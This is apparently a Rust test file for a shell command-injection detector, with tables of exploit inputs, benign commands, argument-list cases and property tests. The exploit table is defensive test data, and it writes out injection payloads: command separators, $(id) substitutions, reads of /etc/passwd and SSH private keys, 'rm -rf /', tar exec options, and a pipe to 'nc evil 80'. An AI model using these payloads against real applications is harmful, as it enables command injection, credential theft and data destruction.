//! Table tests of the shell sink detector: exploits built the way a vulnerable application
//! pastes a user's value into a command line or an argument list (must fire with the expected
//! reason), benign commands (must not), and property tests (quoted values never fire; nothing
//! panics; linear time).
#![allow(clippy::unwrap_used, clippy::print_stdout)]

use super::{MAX_OCCURRENCES, check_argv, check_command, lexer};
use crate::sink::Reason::{self, *};
use crate::sink::test_support::assert_no_false_positives;
use proptest::prelude::*;
use std::time::{Duration, Instant};

/// Exploits: (command with `{}` where the application pastes the input, input, reason).
const EXPLOITS: &[(&str, &str, Reason)] = &[
    // Unquoted: `os.system("ping -c 1 " + host)`.
    ("ping -c 1 {}", "8.8.8.8; id", Separator),
    ("ping -c 1 {}", ";id", Separator),
    ("ping -c 1 {}", "|id", Separator),
    ("ping -c 1 {}", "||id", Separator),
    ("ping -c 1 {}", "&&id", Separator),
    ("ping -c 1 {}", "&id&", Separator),
    ("ping -c 1 {}", "\nid", Separator),
    ("ping -c 1 {}", "8.8.8.8\nid", Separator),
    ("ping -c 1 {}", "x && cat /etc/passwd", Separator),
    ("ping -c 1 {}", "a);id;", Separator),
    ("ping -c 1 {} -W 2", "8.8.8.8|&id", Separator),
    ("ls {}", "$(id)", Substitution),
    ("ls {}", "`id`", Substitution),
    ("ls {}", "${IFS}", Substitution),
    ("ls {}", "$IFS", Substitution),
    ("cat {}", "x${IFS}/etc/passwd", Substitution),
    ("cat {}", "$HOME/.ssh/id_rsa", Substitution),
    ("ls {}", "<(id)", Substitution),
    ("ls {}", ">(id)", Substitution),
    ("ls {}", "$((1+1))", Substitution),
    ("ls {}", "~root/.ssh", Substitution),
    ("echo {}", ">/tmp/x", Redirection),
    ("echo {}", "a > /tmp/x", Redirection),
    ("echo {}", "a>>/tmp/x", Redirection),
    ("echo {}", "x 2>&1", Redirection),
    ("echo {}", "x&>/tmp/log", Redirection),
    ("cat {}", "</etc/passwd", Redirection),
    ("wc -l {}", "/etc/*", Words),
    ("wc -l {}", "/etc/pass??", Words),
    ("wc -l {}", "/etc/[ps]*", Words),
    ("wc -l {}", "/etc/[ps]asswd", Words),
    ("cat {}", "{a,b}", Words),
    ("cat {}", "/etc/{passwd,shadow}", Words),
    ("cat {}", "log{1..9}", Words),
    ("rm {}", "x -rf /", Words),
    ("convert {} out.png", "in.png -write /tmp/x", Words),
    ("cat {}", "notes.txt /etc/passwd", Words),
    ("tar -czf out.tgz {}", "x ../../secret", Words),
    ("cat {}", "a.txt ~root/.ssh/id_rsa", Substitution),
    ("printf '%s\\n' {}", "hello 'world", Tokenization),
    ("cat {}", "a.txt C:\\boot.ini", Words),
    ("ping -c 1 {} -W 2", "8.8.8.8 #", Comment),
    ("ping -c 1 {}", "8.8.8.8\t#", Comment),
    ("ls {} -la", "x\\", Quote),
    ("ls {}", "a\0b", NulByte),
    (
        "tar -cf a.tar {} x",
        "--checkpoint-action=exec=sh",
        ArgumentOption,
    ),
    ("ls {}", "-la", ArgumentOption),
    ("git log {}", "--output=/tmp/x", ArgumentOption),
    ("curl {}", "-o/tmp/x", ArgumentOption),
    ("convert {} out.png", "'-write'", ArgumentOption),
    // Single quotes: `os.system("echo '" + value + "'")`.
    ("echo '{}'", "a'b", Tokenization),
    ("echo '{}'", "x'; id; '", Separator),
    ("echo '{}' > out.txt", "x';id;'", Separator),
    ("echo '{}'", "'$(id)'", Substitution),
    ("echo '{}'", "x' 'y", Quote),
    ("echo '{}'", "a'b'c", Quote),
    ("grep -r '{}' /srv", "x' /etc/passwd '", Quote),
    ("echo '{}'", "x'|id|'", Separator),
    ("echo '{}'", "x'`id`'", Substitution),
    ("echo '{}'", "x'>/tmp/x'", Redirection),
    ("echo '{}'", "'-n'", Quote),
    ("echo '{}'", "-n", ArgumentOption),
    // Double quotes: `os.system('echo "' + value + '"')`.
    ("echo \"{}\"", "\"; id; \"", Separator),
    ("echo \"{}\"", "$(id)", Substitution),
    ("echo \"{}\"", "`id`", Substitution),
    ("echo \"{}\"", "$HOME", Substitution),
    ("echo \"{}\"", "${PATH}", Substitution),
    ("echo \"{}\" | wc", "a\"b\"c", Quote),
    ("echo \"{}\"", "x\" \"y", Quote),
    ("echo \"{}\" >> log", "x\\", Tokenization),
    ("echo \"{}\"", "\"&&id&&\"", Separator),
    // ANSI-C strings.
    ("echo $'{}'", "x'; id; '", Separator),
    ("echo $'{}'", "x\\", Tokenization),
    // Inside the application's own substitution.
    ("echo $(basename {})", "x; id", Separator),
    ("echo \"$(basename '{}')\"", "x'; id; '", Separator),
    ("echo `basename {}`", "x;id", Separator),
    // Here-documents.
    ("cat <<EOF\n{}\nEOF\n", "$(id)", Substitution),
    ("cat <<EOF\n{}\nEOF\n", "x\nEOF\nid", Separator),
    ("mail -s hi bob <<-END\n\t{}\n\tEND\n", "`id`", Substitution),
    // Two commands in a row.
    ("cd /srv && ls {}; echo done", "a|nc evil 80", Separator),
    ("sh -c 'ls {}'", "x'; id; '", Separator),
];

/// Benign commands: (command, inputs), none may fire.
fn benign() -> Vec<(String, Vec<String>)> {
    let mut cases: Vec<(String, Vec<String>)> = Vec::new();
    let mut add = |cmd: &str, inputs: &[&str]| {
        cases.push((
            cmd.to_owned(),
            inputs.iter().map(|s| (*s).to_owned()).collect(),
        ));
    };
    add("convert 'my photo.jpg' out.png", &["my photo.jpg"]);
    // Plain words pasted unquoted: the message splits into arguments, but none is an option
    // or a path (a vulnerable application, but not an attack).
    add("printf '%s\\n' hello world", &["hello world"]);
    add(
        "notify-send Build finished in 3 minutes",
        &["Build finished in 3 minutes"],
    );
    add(
        "echo Merci beaucoup, à demain",
        &["Merci beaucoup, à demain"],
    );
    add(
        "logger -t app user alice logged in",
        &["user alice logged in"],
    );
    add(
        "convert 'my photo.jpg' 'out put.png'",
        &["my photo.jpg", "out put.png", "photo"],
    );
    add("ping -c 1 8.8.8.8", &["8.8.8.8", "1"]);
    add("ping -c 1 example.com", &["example.com"]);
    add(
        "mail -s report alice@example.com",
        &["alice@example.com", "report"],
    );
    add(
        "mail -s 'Quarterly report' 'alice.smith+tag@example.com'",
        &["Quarterly report", "alice.smith+tag@example.com"],
    );
    add(
        "curl -s 'https://shop.example/search?q=running+shoes&page=2'",
        &["https://shop.example/search?q=running+shoes&page=2"],
    );
    add(
        "curl -s \"https://shop.example/a?x=1&y=2#top\"",
        &["https://shop.example/a?x=1&y=2#top"],
    );
    add("head -n 20 /var/log/app.log", &["20", "app.log"]);
    add("convert in.png -rotate -90 out.png", &["-90"]);
    add("seq 1 -0.5 -10", &["-0.5", "-10"]);
    add(
        "ls -la /tmp | grep report && echo ok",
        &["report", "ok", "/tmp"],
    );
    add(
        "tar czf backup.tar.gz uploads/ 2>&1 | tail -n 5",
        &["uploads", "backup.tar.gz"],
    );
    add(
        "echo 'a; b | c && d > e $(f) `g` ${h} #i *j {k,l} ~m'",
        &[
            "a; b | c && d > e $(f) `g` ${h} #i *j {k,l} ~m",
            "$(f)",
            "#i",
            "*j",
        ],
    );
    add(
        "echo \"a; b | c && d > e 'x' #i *j {k,l} ~m\"",
        &["a; b | c && d > e 'x' #i *j {k,l} ~m", "'x'", "{k,l}", "~m"],
    );
    add(
        "echo \"price \\$5, \\\"quoted\\\"\"",
        &["price $5", "\"quoted\""],
    );
    add("echo $'it\\'s a b'", &["a b", "it\\'s"]);
    add("ls $'\\x3bid'", &["$'\\x3bid'"]);
    add(
        "ls # list the reports; rm nothing",
        &["the reports; rm nothing"],
    );
    add(
        "cat <<'EOF'\n$(id); rm -rf / `x`\nEOF\n",
        &["$(id); rm -rf / `x`"],
    );
    add(
        "cat <<EOF\nhello world; not a command | really\nEOF\necho done",
        &["hello world; not a command | really"],
    );
    add("rm -- -rf", &["-rf"]);
    add("grep -e pattern -- '-v x'", &["-v x"]);
    add("echo \\;id", &[";id"]);
    add("ls my\\ photo.jpg", &["my photo.jpg", "photo.jpg"]);
    add(
        "git commit -m 'fix: the \"login\" bug (#42)'",
        &["fix: the \"login\" bug (#42)", "(#42)"],
    );
    add("convert --name='x y' a.png", &["x y"]);
    add("printf '%s\\n' 'résumé 日本語 ü'", &["résumé 日本語 ü"]);
    add("ls /srv/files", &["absent; input", "$(nothing)", "-x"]);
    add("ls /srv/files; echo $HOME", &[";", "$", "|", "-", "a"]);
    add("echo hi", &[]);
    add("echo 'abc'", &["'abc'"]);
    add("echo \"a b\"", &["\"a b\""]);
    add("echo x{}y {} [x", &["x{}y", "[x"]);
    add("find . -name '*.log' -exec rm {} \\;", &["*.log", ".log"]);
    add("echo \"$USER said: hi there\"", &["said: hi there", "USER"]);
    add("VAR=value env | sort", &["value"]);
    add("awk '{print $1}' data.csv", &["{print $1}"]);
    add("sh -c 'echo \"a b\"'", &["a b"]);
    // Values quoted the way `shlex.quote` does (`'` → `'"'"'`) and the `'\''` way.
    for value in [
        "it's mine.jpg",
        "a'b",
        "''",
        "'''",
        "\"quoted\" 'and' more",
        "$(id); `id` | rm -rf / > x",
        "x\\",
        "O'Brien & Co",
        "\"'",
        "'\"",
        "'a'",
        "-",
        "résumé d'été.pdf",
        "\n; id\n",
    ] {
        for esc in ["'\"'\"'", "'\\''"] {
            let q = format!("'{}'", value.replace('\'', esc));
            cases.push((format!("convert {q} out.png"), vec![value.to_owned()]));
            cases.push((format!("echo {q}"), vec![value.to_owned()]));
        }
        // Double quotes with `"`, `\`, `$` and backtick escaped.
        let mut dq = String::new();
        for ch in value.chars() {
            if matches!(ch, '"' | '\\' | '$' | '`') {
                dq.push('\\');
            }
            dq.push(ch);
        }
        cases.push((format!("echo \"{dq}\" > /tmp/out"), vec![value.to_owned()]));
    }
    cases
}

fn command(template: &str, input: &str) -> String {
    template.replacen("{}", input, 1)
}

#[test]
fn exploits_fire() {
    let mut wrong = Vec::new();
    let mut fired = 0;
    for &(template, input, reason) in EXPLOITS {
        let cmd = command(template, input);
        match check_command(&cmd, ["irrelevant", input, "x"]) {
            Some(f) => {
                fired += 1;
                assert_eq!(f.input, input);
                assert_eq!(f.input_index, 1);
                assert_eq!(cmd.get(f.span.clone()), Some(input), "{cmd:?}");
                if f.reason != reason {
                    wrong.push(format!(
                        "{cmd:?} <- {input:?}: {:?}, expected {reason:?}",
                        f.reason
                    ));
                }
            }
            None => wrong.push(format!("{cmd:?} <- {input:?}: missed")),
        }
    }
    println!("sink shell: exploits fired {fired}/{}", EXPLOITS.len());
    assert!(wrong.is_empty(), "wrong verdicts:\n{}", wrong.join("\n"));
}

#[test]
fn benign_commands_never_fire() {
    let list = benign();
    let mut false_positives = Vec::new();
    for (cmd, inputs) in &list {
        assert!(lexer::lexes(cmd), "{cmd:?} must lex");
        if let Some(f) = check_command(cmd, inputs) {
            false_positives.push(format!("{cmd:?} <- {:?} ({:?})", f.input, f.reason));
        }
    }
    assert_no_false_positives("shell", list.len(), &false_positives);
}

/// Argument lists: (args, input, expected reason or `None`).
const ARGV: &[(&[&str], &str, Option<Reason>)] = &[
    (
        &["git", "log", "--output=/tmp/x"],
        "--output=/tmp/x",
        Some(ArgumentOption),
    ),
    (
        &["tar", "-cf", "a.tar", "--checkpoint-action=exec=sh"],
        "--checkpoint-action=exec=sh",
        Some(ArgumentOption),
    ),
    (
        &["curl", "-o/tmp/x", "https://a.example"],
        "-o/tmp",
        Some(ArgumentOption),
    ),
    (
        &["rsync", "-e", "sh x", "a", "b"],
        "-e",
        Some(ArgumentOption),
    ),
    (&["ls", "a\0b"], "a\0b", Some(NulByte)),
    (&["ls", "-la"], "-la", Some(ArgumentOption)),
    (
        &["/bin/sh", "-c", "ping -c 1 8.8.8.8; id"],
        "8.8.8.8; id",
        Some(Separator),
    ),
    (&["bash", "-ec", "ls $(id)"], "$(id)", Some(Substitution)),
    (
        &["bash", "-o", "pipefail", "-c", "ls x | cat", "name"],
        "x | cat",
        Some(Separator),
    ),
    (
        &["dash", "-c", "--", "echo 'x'; id; ''"],
        "x'; id; '",
        Some(Separator),
    ),
    (
        &["/usr/bin/zsh", "-c", "tar -cf a.tar -Tx"],
        "-Tx",
        Some(ArgumentOption),
    ),
    // Safe.
    (
        &["git", "log", "--", "--output=/tmp/x"],
        "--output=/tmp/x",
        None,
    ),
    (&["ping", "-c", "1", "8.8.8.8; id"], "8.8.8.8; id", None),
    (&["echo", "$(id) `id` | x > y"], "$(id) `id` | x > y", None),
    (
        &["convert", "in.png", "-rotate", "-90", "out.png"],
        "-90",
        None,
    ),
    (&["grep", "--format=-x"], "-x", None),
    (&["ls", "report.pdf"], "report.pdf", None),
    (&["ls", "report.pdf"], "absent", None),
    (&["rm", "--", "-rf"], "-rf", None),
    (&["sh", "-c", "ls 'x; id'"], "x; id", None),
    (&["sh", "script.sh", "x; id"], "x; id", None),
    (&[], "-x", None),
];

#[test]
fn argv_table() {
    let mut wrong = Vec::new();
    for &(args, input, reason) in ARGV {
        let f = check_argv(args, ["irrelevant", input]);
        if f.as_ref().map(|f| f.reason) != reason {
            wrong.push(format!("{args:?} <- {input:?}: {f:?}, expected {reason:?}"));
        }
        if let Some(f) = f {
            let joined = args.join(" ");
            assert_eq!(joined.get(f.span.clone()), Some(input), "{joined:?}");
            assert_eq!(f.input_index, 1);
        }
    }
    println!("sink shell: argv cases {}", ARGV.len());
    assert!(wrong.is_empty(), "wrong verdicts:\n{}", wrong.join("\n"));
}

#[test]
fn single_quotes_are_safe_but_double_quotes_expand() {
    assert_eq!(check_command("echo '$(id)'", ["$(id)"]), None);
    let f = check_command("echo \"$(id)\"", ["$(id)"]).unwrap();
    assert_eq!((f.reason, f.span), (Substitution, 6..11));
}

#[test]
fn known_limit_application_text_equal_to_an_input() {
    // An input of several atoms byte-equal to the application's own text fires (docs/sinks.md).
    let f = check_command("ls -la /tmp | grep report", ["| grep"]).unwrap();
    assert_eq!(f.reason, Separator);
}

#[test]
fn several_occurrences_one_offending_is_enough() {
    let cmd = "cat 'a /b' a /b";
    let f = check_command(cmd, ["a /b"]).unwrap();
    assert_eq!((f.reason, f.span), (Words, 11..15));
    // Plain words split by a blank are no finding on their own.
    assert!(check_command("echo 'a b' a b", ["a b"]).is_none());
}

#[test]
fn many_occurrences_stay_linear() {
    // 40,000 quoted occurrences in a 400 kB command: only MAX_OCCURRENCES are examined.
    let cmd = format!("echo {}", "'x; y' ".repeat(40_000));
    let inputs: Vec<String> = (0..20)
        .map(|i| format!("x;{}", " ".repeat(i % 2)))
        .collect();
    let start = Instant::now();
    assert!(check_command(&cmd, &inputs).is_none());
    let took = start.elapsed();
    println!("sink shell: 20 inputs, 40,000 occurrences each, 280 kB command: {took:?}");
    assert!(took < Duration::from_secs(5), "{took:?}");
    const { assert!(MAX_OCCURRENCES <= 64) };
    // Deep nesting does not lex (no stack overflow), and is the input's doing.
    let deep = format!("echo {}", "$(".repeat(10_000));
    assert!(!lexer::lexes(&deep));
    let input = "$(".repeat(100);
    let f = check_command(&format!("echo {input}"), [&input]).unwrap();
    assert_eq!(f.reason, Tokenization);
}

/// The places a test pastes a quoted value into.
const TEMPLATES: [&str; 4] = [
    "convert {} out.png",
    "echo {} | tee -a /var/log/x",
    "sh -c {}",
    "grep -r -- {} /srv/docs",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn single_quoted_values_never_fire(value in "[^\\x00]{0,24}", t in 0usize..4, esc in 0usize..2) {
        let q = format!("'{}'", value.replace('\'', ["'\"'\"'", "'\\''"][esc]));
        let template = TEMPLATES[t];
        let cmd = command(template, &q);
        let at = template.find("{}").unwrap();
        // Only occurrences that the application pasted: none in its own text.
        let inside = memchr::memmem::find_iter(cmd.as_bytes(), value.as_bytes())
            .all(|s| s >= at && s + value.len() <= at + q.len());
        prop_assume!(inside);
        let f = check_command(&cmd, [value.as_str()]);
        // Values starting with `-` are options wherever they are quoted, unless after `--`.
        let option = value.starts_with('-') && value.len() >= 2 && t != 3
            && !value.contains('\'') && super::classify::is_option(value.as_bytes());
        if option {
            prop_assert_eq!(f.map(|f| f.reason), Some(ArgumentOption), "{:?}", cmd);
        } else {
            prop_assert_eq!(f, None, "{:?}", cmd);
        }
    }

    #[test]
    fn never_panics(cmd in any::<String>(), inputs in proptest::collection::vec(any::<String>(), 0..6)) {
        let _ = check_command(&cmd, &inputs);
        let cuts: Vec<&str> = inputs
            .iter()
            .filter_map(|i| {
                let a = i.len() % (cmd.len() + 1);
                let b = (a + i.len() % 17).min(cmd.len());
                cmd.get(a..b)
            })
            .collect();
        if let Some(f) = check_command(&cmd, &cuts) {
            prop_assert_eq!(cmd.get(f.span.clone()), Some(f.input.as_str()));
        }
        let _ = check_argv(&inputs, &cuts);
    }

    #[test]
    fn never_panics_shellish(cmd in "[a -;&|<>()`'\"$\\\\*?\\[\\]{},~#\\n\\t=0-9EOF]{0,48}", start in 0usize..48, len in 2usize..12) {
        let end = (start + len).min(cmd.len());
        let input = cmd.get(start.min(end)..end).unwrap_or_default();
        if let Some(f) = check_command(&cmd, [input]) {
            prop_assert_eq!(cmd.get(f.span.clone()), Some(input));
        }
        let args = ["sh", "-c", cmd.as_str()];
        if let Some(f) = check_argv(args, [input]) {
            let joined = args.join(" ");
            prop_assert_eq!(joined.get(f.span.clone()), Some(input));
        }
    }
}
